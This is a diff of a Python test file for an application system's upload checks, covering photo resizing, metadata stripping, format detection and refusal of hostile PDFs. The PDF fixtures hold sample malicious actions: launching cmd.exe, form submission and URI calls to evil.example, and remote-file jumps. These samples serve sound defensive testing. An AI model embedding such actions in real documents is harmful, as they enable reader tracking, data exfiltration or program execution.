@@ -1,6 +1,8 @@
 """Upload checks (issue 3): type by content, photo rules, bombs, hostile PDFs, 字数. Every fixture is built in code."""
 
 import contextlib
+import functools
+import hashlib
 import io
 import itertools
 import time
@@ -11,7 +13,7 @@ import zlib
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from PIL import ExifTags, Image
+from PIL import ExifTags, Image, ImageChops
 from pypdf.actions import JavaScript
 
 from applications import uploads
@@ -28,6 +30,7 @@ from applications.uploads import (
     count_characters,
     export_photo_jpeg,
     photo_export_name,
+    prepare_for_storage,
 )
 
 
@@ -92,17 +95,62 @@ def test_mpo_from_a_phone_is_a_jpeg():
     assert check_photo(data).extension == ".jpg"
 
 
-def test_photo_of_2_1_mb_is_refused_naming_limit_and_size():
-    data = fx.photo("BMP", size=(800, 918))  # 2 203 254 bytes
-    assert 2.1 <= len(data) / MB < 2.15
-    assert rejected(check_photo, data) == "照片不能超过 2 MB，当前约 2.1 MB。"
+@functools.cache
+def phone_photo() -> bytes:
+    """12 megapixels stored on its side (EXIF orientation 6) with GPS, as a phone held upright writes it."""
+    return fx.phone_photo((3024, 4032), on_side=True, exif=fx.gps_exif(orientation=6))
 
 
-def test_photo_limit_is_exactly_2_mib():
+def test_a_phone_photo_of_several_mb_is_accepted_and_stored_as_a_jpeg_under_2_mb():
+    data = phone_photo()
+    assert len(data) > 4 * MB
+    checked = check_photo(data, "IMG_20261130_091500.jpg")
+    assert (checked.width, checked.height) == (3024, 4032)
+
+    stored = prepare_for_storage(data, checked, photo=True)
+    image = Image.open(io.BytesIO(stored.data))
+    assert image.format == "JPEG" and len(stored.data) <= 2 * MB
+    assert image.size == (stored.width, stored.height) == (1200, 1600)  # upright, fitted into 1200 × 1600
+    assert stored.sha256 == hashlib.sha256(stored.data).hexdigest() != checked.sha256
+    assert stored.extension == ".jpg" and stored.content_type == "image/jpeg"
+    size = f"{len(data) / MB:.1f} MB"
+    kb = f"{round(len(stored.data) / 1024)} KB"
+    assert stored.notes == (f"照片已从 3024 × 4032 像素、{size} 压缩为 1200 × 1600 像素、{kb} 的 JPG 图片。",)
+    check_photo(stored.data)  # what is stored is itself a valid photo
+
+
+def test_a_48_megapixel_phone_photo_is_accepted():
+    data = fx.phone_photo((6000, 8000), noise=0, quality=80)
+    checked = check_photo(data)
+    assert (checked.width, checked.height) == (6000, 8000)
+    stored = prepare_for_storage(data, checked, photo=True)
+    assert Image.open(io.BytesIO(stored.data)).size == (1200, 1600)
+
+
+def test_photo_upload_limit_is_exactly_20_mib():
     data = fx.photo()  # bytes after the JPEG's end marker are ignored by decoders
-    padded = data + b"\0" * (2 * MB - len(data))
-    assert check_photo(padded).size == 2 * MB
-    assert "当前约 2.01 MB" in rejected(check_photo, padded + b"\0")
+    padded = data + b"\0" * (20 * MB - len(data))
+    assert check_photo(padded).size == 20 * MB
+    assert rejected(check_photo, padded + b"\0") == "照片不能超过 20 MB，当前约 20.01 MB。"
+
+
+def test_photo_over_50_megapixels_is_refused_from_its_header():
+    message, seconds, peak = bounded(check_photo, fx.png_header_bomb(6200, 8200))
+    assert "图片尺寸过大（6200 × 8200 像素），请压缩到 5000 万像素以内" in message
+    assert seconds < 1 and peak < 10
+
+
+def test_a_small_jpeg_photo_is_stored_without_a_note():
+    data = fx.photo()
+    stored = prepare_for_storage(data, check_photo(data), photo=True)
+    assert stored.notes == () and Image.open(io.BytesIO(stored.data)).size == (413, 579)
+
+
+def test_a_png_photo_is_stored_as_a_jpeg_and_the_applicant_is_told():
+    data = fx.photo("PNG")
+    stored = prepare_for_storage(data, check_photo(data), photo=True)
+    assert stored.data.startswith(b"\xff\xd8\xff") and stored.extension == ".jpg"
+    assert stored.notes and "413 × 579 像素" in stored.notes[0] and "JPG" in stored.notes[0]
 
 
 @pytest.mark.parametrize(
@@ -121,12 +169,10 @@ def test_slightly_warm_white_from_a_phone_is_white():
     check_photo(fx.photo(background=(245, 238, 228)))
 
 
-def test_photo_too_small_landscape_or_too_large_is_refused(monkeypatch):
+def test_photo_too_small_or_landscape_is_refused():
     assert "分辨率太低（200 × 280 像素）" in rejected(check_photo, fx.photo(size=(200, 280)))
     assert "竖版" in rejected(check_photo, fx.photo(size=(579, 413)))
     assert "竖版" in rejected(check_photo, fx.photo(size=(500, 500)))
-    monkeypatch.setattr(uploads, "PHOTO_MAX_WIDTH", 400)
-    assert "照片尺寸过大（413 × 579 像素）" in rejected(check_photo, fx.photo())
 
 
 def test_exe_renamed_jpg_is_refused():
@@ -139,6 +185,7 @@ def test_exe_renamed_jpg_is_refused():
     ("data", "expected"),
     [
         (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100), "不支持 HEIC 格式的图片"),
+        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1" + bytes(100), "不支持 AVIF 格式的图片"),
         (b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(100), "不支持 WebP 格式的图片"),
         (b"GIF89a" + bytes(100), "不支持 GIF 格式的图片"),
         (b"hello, not an image", "文件内容不是图片，请上传 JPG、PNG 或 BMP 格式的照片。"),
@@ -191,6 +238,76 @@ def test_export_strips_metadata_and_applies_orientation():
     assert b"HUAWEI" not in exported and b"secret" not in exported and b"Exif" not in exported
     assert image.getpixel((206, 15)) >= (240, 240, 240)  # the top is background, so it was rotated right
     check_photo(exported)
+
+
+# Markers and chunks that carry metadata: JPEG APP1 (EXIF, XMP), APP2 (ICC), APP13 (IPTC) and COM;
+# PNG eXIf, iCCP and the text chunks. In JPEG entropy data 0xFF is always followed by 0x00 or a restart marker.
+JPEG_METADATA = (b"\xff\xe1", b"\xff\xe2", b"\xff\xed", b"\xff\xfe", b"Exif", b"ICC_PROFILE", b"http://ns.adobe.com")
+PNG_METADATA = (b"eXIf", b"iCCP", b"tEXt", b"zTXt", b"iTXt", b"Exif")
+
+
+def assert_without_metadata(data: bytes) -> Image.Image:
+    image = Image.open(io.BytesIO(data))
+    assert len(image.getexif()) == 0 and not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
+    assert not {"exif", "xmp", "icc_profile", "comment", "photoshop"} & image.info.keys()
+    assert b"HUAWEI" not in data and b"secret" not in data and b"GPS" not in data
+    for marker in JPEG_METADATA if image.format == "JPEG" else PNG_METADATA:
+        assert marker not in data, marker
+    return image
+
+
+@pytest.mark.parametrize(("fmt", "stored_as"), [("JPEG", "JPEG"), ("PNG", "PNG"), ("BMP", "PNG")])
+def test_document_images_are_stored_upright_without_exif_gps_or_other_metadata(fmt, stored_as):
+    data = fx.document_image(fmt)
+    original = Image.open(io.BytesIO(data))
+    assert original.size == (540, 856)
+    if fmt != "BMP":
+        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the fixture carries a position
+    checked = check_document(data, "身份证正面.jpg")
+
+    stored = prepare_for_storage(data, checked)
+    image = assert_without_metadata(stored.data)
+    assert image.format == stored_as and stored.extension == f".{stored_as.lower()}".replace("jpeg", "jpg")
+    assert stored.sha256 == hashlib.sha256(stored.data).hexdigest()
+    if fmt == "BMP":  # stored upright as it came (BMP has no EXIF), only losslessly compressed
+        assert image.size == (540, 856) and len(stored.data) < len(data) / 5
+    else:  # the EXIF rotation was applied before the EXIF was dropped: the dark band is on top
+        assert image.size == (856, 540) == (stored.width, stored.height)
+        assert sum(image.convert("RGB").getpixel((428, 10))) < 250 and sum(image.getpixel((428, 530))) > 600
+        assert stored.notes == ("已去除图片中的拍摄时间、地点（GPS）、设备等附加信息。",)
+    check_document(stored.data)  # what is stored still passes its check
+
+
+def test_a_png_document_keeps_its_pixels_exactly():
+    data = fx.document_image("PNG", on_side=False)
+    stored = prepare_for_storage(data, check_document(data))
+    assert_without_metadata(stored.data)
+    before, after = Image.open(io.BytesIO(data)), Image.open(io.BytesIO(stored.data))
+    assert ImageChops.difference(before.convert("RGB"), after.convert("RGB")).getbbox() is None
+
+
+def test_a_document_image_without_metadata_gets_no_note():
+    data = fx.encode(fx.id_card(), "JPEG")
+    assert prepare_for_storage(data, check_document(data)).notes == ()
+
+
+def test_a_pdf_is_stored_as_uploaded():
+    data = fx.text_pdf("身份证")
+    stored = prepare_for_storage(data, check_document(data))
+    assert stored.data == data and stored.extension == ".pdf" and stored.notes == ()
+    assert stored.sha256 == hashlib.sha256(data).hexdigest()
+
+
+def test_a_photo_from_a_phone_is_stored_upright_without_gps():
+    stored = prepare_for_storage(phone_photo(), check_photo(phone_photo()), photo=True)
+    image = assert_without_metadata(stored.data)
+    assert image.getpixel((600, 20)) >= (235, 235, 235)  # the top is background: rotated upright
+
+
+def test_a_cmyk_scan_is_stored_as_an_rgb_jpeg():
+    data = fx.encode(fx.id_card().convert("CMYK"), "JPEG", quality=95)
+    image = assert_without_metadata(prepare_for_storage(data, check_document(data)).data)
+    assert image.mode == "RGB"
 
 
 @pytest.mark.parametrize("fmt", ["PNG", "BMP"])
@@ -324,7 +441,44 @@ LAUNCHING = {
     "go to remote": fx.one_page_pdf(
         catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>"
     ),
-    "submit form": fx.one_page_pdf(catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x) >> >>"),
+    "import data": fx.one_page_pdf(page=b"/AA << /O << /S /ImportData /F (data.fdf) >> >>"),
+    "launch on a page /AA": fx.one_page_pdf(page=b"/AA << /C << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
+    "remote go-to by URL": fx.one_page_pdf(
+        catalog=b"/OpenAction << /S /GoToR /F << /FS /URL /F (https://evil.example/a.pdf) >> /D [0 /Fit] >>"
+    ),
+    "thread in another file": fx.one_page_pdf(catalog=b"/OpenAction << /S /Thread /F (other.pdf) /D 0 >>"),
+}
+URI = b"<< /S /URI /URI (https://evil.example/track?id=1) >>"
+CALLING_OUT = {
+    "open action to a URI": fx.one_page_pdf(catalog=b"/OpenAction " + URI),
+    "open action to a URI, indirect": fx.one_page_pdf(catalog=b"/OpenAction 6 0 R", extra={6: URI}),
+    "catalog /AA to a URI": fx.one_page_pdf(catalog=b"/AA << /WC " + URI + b" >>"),
+    "page /AA to a URI": fx.one_page_pdf(page=b"/AA << /O " + URI + b" >>"),
+    "web link annotation": fx.one_page_pdf(
+        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A " + URI + b" >>"}
+    ),
+    "annotation /AA to a URI": fx.one_page_pdf(
+        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] /AA << /E " + URI + b" >> >>"}
+    ),
+    "outline to a URI": fx.one_page_pdf(
+        catalog=b"/Outlines 6 0 R",
+        extra={
+            6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
+            7: b"<< /Title (a) /Parent 6 0 R /A " + URI + b" >>",
+        },
+    ),
+    "next chain to a URI": fx.one_page_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + URI + b"] >>"),
+    "submit form from a field only in the AcroForm": fx.one_page_pdf(
+        catalog=b"/AcroForm << /Fields [6 0 R] >>",
+        extra={6: b"<< /FT /Btn /T (send) /Ff 65536 /A << /S /SubmitForm /F (https://evil.example/collect) >> >>"},
+    ),
+    "submit form to a URL file spec": fx.one_page_pdf(
+        catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x) >> >>"
+    ),
+    "names tree to a URI": fx.one_page_pdf(
+        catalog=b"/Names << /Dests << /Names [(a) 6 0 R] >> >>", extra={6: b"<< /D [3 0 R /Fit] /Next " + URI + b" >>"}
+    ),
+    "escaped name": fx.one_page_pdf(catalog=b"/OpenAction << /S /U#52I /URI (https://evil.example) >>"),
 }
 EMBEDDING = {
     "attachment (pypdf)": attachment(),
@@ -354,6 +508,27 @@ def test_pdf_with_launch_or_external_actions_is_refused(data):
     assert "打开程序或外部文件" in rejected(check_document, data)
 
 
+@pytest.mark.parametrize("data", CALLING_OUT.values(), ids=CALLING_OUT.keys())
+def test_pdf_with_links_or_actions_that_call_out_is_refused(data):
+    for check in (check_document, check_pdf, check_technical_summary):
+        message = rejected(check, data)
+        assert message.startswith("PDF 中含有网址链接或联网动作") and "请删除文档中的超链接" in message
+
+
+def test_a_uri_action_at_the_end_of_a_long_chain_is_found_without_recursion():
+    chain = {6 + i: b"<< /Next %d 0 R >>" % (7 + i) for i in range(3000)}
+    chain[3006] = URI
+    assert "网址链接" in rejected(check_document, fx.one_page_pdf(catalog=b"/Deep 6 0 R", extra=chain))
+    nested = b"[" * 200 + URI + b"]" * 200
+    assert "网址链接" in rejected(check_document, fx.one_page_pdf(catalog=b"/Deep " + nested))
+
+
+def test_the_object_walk_is_bounded():
+    many = b"/Many [" + b"<<>>" * (uploads.PDF_MAX_OBJECTS + 1) + b"]"
+    message, seconds, _ = bounded(check_document, fx.one_page_pdf(catalog=many))
+    assert "结构过于复杂" in message and seconds < 10
+
+
 @pytest.mark.parametrize("data", EMBEDDING.values(), ids=EMBEDDING.keys())
 def test_pdf_with_embedded_file_is_refused(data):
     assert "PDF 中嵌入了附件" in rejected(check_document, data)
@@ -364,14 +539,15 @@ def test_pdf_with_embedded_file_is_refused(data):
     ("catalog", "page", "extra"),
     [
         (b"/OpenAction [3 0 R /Fit]", b"", {}),  # open at page 1: harmless and common
-        (b"", ANNOTS, {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x) >> >>"}),
+        (b"", ANNOTS, {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"}),
+        (b"/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /PageMode /UseOutlines", b"", {}),
         (
             b"/Outlines 6 0 R",
             b"",
             {6: b"<< /Count 1 /First 7 0 R /Last 7 0 R >>", 7: b"<< /Title (a) /Parent 6 0 R /Dest [3 0 R /Fit] >>"},
         ),
     ],
-    ids=["open at page", "web link", "bookmark"],
+    ids=["open at page", "link within the document", "named destination", "bookmark"],
 )
 def test_pdf_with_ordinary_links_and_bookmarks_is_accepted(catalog, page, extra):
     assert check_document(fx.one_page_pdf(catalog=catalog, page=page, extra=extra)).pages == 1
@@ -505,7 +681,14 @@ def test_no_time_left_sends_the_length_to_the_reviewer(monkeypatch):
 # ---------------------------------------------------------------------------
 # Arbitrary bytes never escape as anything but UploadRejected
 
-SAMPLES = [fx.photo("JPEG", size=(300, 400)), fx.photo("PNG", size=(300, 400)), fx.one_page_pdf(), fx.text_pdf("技术")]
+SAMPLES = [
+    fx.photo("JPEG", size=(300, 400)),
+    fx.photo("PNG", size=(300, 400)),
+    fx.one_page_pdf(),
+    fx.text_pdf("技术"),
+    fx.document_image("JPEG"),  # EXIF with GPS, ICC, XMP and a comment: broken metadata must not break storing
+    fx.document_image("PNG"),
+]
 PREFIXES = [b"", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"BM", b"%PDF-1.7\n", b"PK\x03\x04", b"MZ"]
 
 
@@ -538,6 +721,8 @@ def test_check_document_only_ever_raises_upload_rejected(data):
         assert str(refusal)
     else:
         assert result.kind in {"jpeg", "png", "bmp", "pdf"} and result.size == len(data)
+        stored = prepare_for_storage(data, result)  # what passed its check can always be stored
+        assert stored.sha256 == hashlib.sha256(stored.data).hexdigest()
 
 
 @pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@@ -546,4 +731,86 @@ def test_check_document_only_ever_raises_upload_rejected(data):
 def test_photo_and_summary_checks_only_ever_raise_upload_rejected(data):
     for check in (check_photo, check_technical_summary):
         with contextlib.suppress(UploadRejected):
-            check(data, "x")
+            checked = check(data, "x")
+            prepare_for_storage(data, checked, photo=check is check_photo)
+
+
+# ---------------------------------------------------------------------------
+# Our own unsigned 诚信承诺书 uploaded back
+
+
+def pledge(phone: str = "13904711234") -> bytes:
+    from applications.documents import render_integrity_pledge
+    from applications.sheet import ApplicationSheet
+
+    blank = {name: "" for name in ("education", "employer", "occupation", "occupation_code", "level", "work_type")}
+    blank |= {name: "" for name in ("category", "prior_certificate_occupation", "prior_certificate_number")}
+    blank |= {"work_history": "", "achievements": "", "specialties": "", "work_started_on": None}
+    sheet = ApplicationSheet(
+        full_name="王小明",
+        gender="男",
+        ethnicity="汉族",
+        id_number="150102198503150017",
+        phone=phone,
+        occupation_years=None,
+        campaign_year=2026,
+        **blank,
+    )
+    return render_integrity_pledge(sheet)
+
+
+def printed_again(data: bytes) -> bytes:
+    """The generated PDF drawn again by another program ("打印为 PDF"): same text, new file, no document info."""
+    from pypdf import PdfReader
+
+    text = PdfReader(io.BytesIO(data)).pages[0].extract_text()
+    return fx.text_pdf(text.replace("\n", ""), per_line=30)
+
+
+def scanned_with_ocr(text: str) -> bytes:
+    """A phone scanner's PDF: the page as an image, with an invisible OCR text layer on top."""
+    from reportlab.lib.pagesizes import A4
+    from reportlab.lib.utils import ImageReader
+    from reportlab.pdfgen import canvas
+
+    buffer = io.BytesIO()
+    pdf = canvas.Canvas(buffer, pagesize=A4)
+    pdf.drawImage(ImageReader(fx.id_card((600, 848))), 0, 0, *A4)
+    layer = pdf.beginText(50, 780)
+    layer.setTextRenderMode(3)  # invisible, as OCR text is
+    layer.setFont(fx.CJK_FONT, 10)
+    for start in range(0, len(text), 30):
+        layer.textLine(text[start : start + 30])
+    pdf.drawText(layer)
+    pdf.showPage()
+    pdf.save()
+    return buffer.getvalue()
+
+
+def test_the_generated_pledge_uploaded_back_is_recognised():
+    generated = pledge()
+    assert uploads.is_unsigned_copy(generated, generated)
+
+
+def test_the_generated_pledge_saved_again_with_its_document_info_is_recognised():
+    writer = fx.pypdf_writer(pledge())
+    writer.add_metadata({"/Producer": "WPS Office"})
+    resaved = fx.written(writer)
+    assert resaved != pledge() and uploads.is_unsigned_copy(resaved, pledge())
+
+
+def test_the_generated_pledge_printed_to_pdf_again_is_recognised_by_its_text():
+    again = printed_again(pledge())
+    assert b"skillcert" not in again
+    assert uploads.is_unsigned_copy(again, pledge())
+    assert uploads.is_unsigned_copy(printed_again(pledge(phone="13800000000")), pledge())  # printed before a change
+
+
+def test_a_signed_scan_of_the_pledge_is_not_a_copy():
+    from pypdf import PdfReader
+
+    text = PdfReader(io.BytesIO(pledge())).pages[0].extract_text().replace("\n", "")
+    assert not uploads.is_unsigned_copy(scanned_with_ocr(text), pledge())  # the OCR text matches, but it is a scan
+    assert not uploads.is_unsigned_copy(fx.scanned_pdf(1), pledge())
+    assert not uploads.is_unsigned_copy(fx.photo(), pledge())
+    assert not uploads.is_unsigned_copy(fx.text_pdf("本人承诺所填信息真实有效。" * 20), pledge())
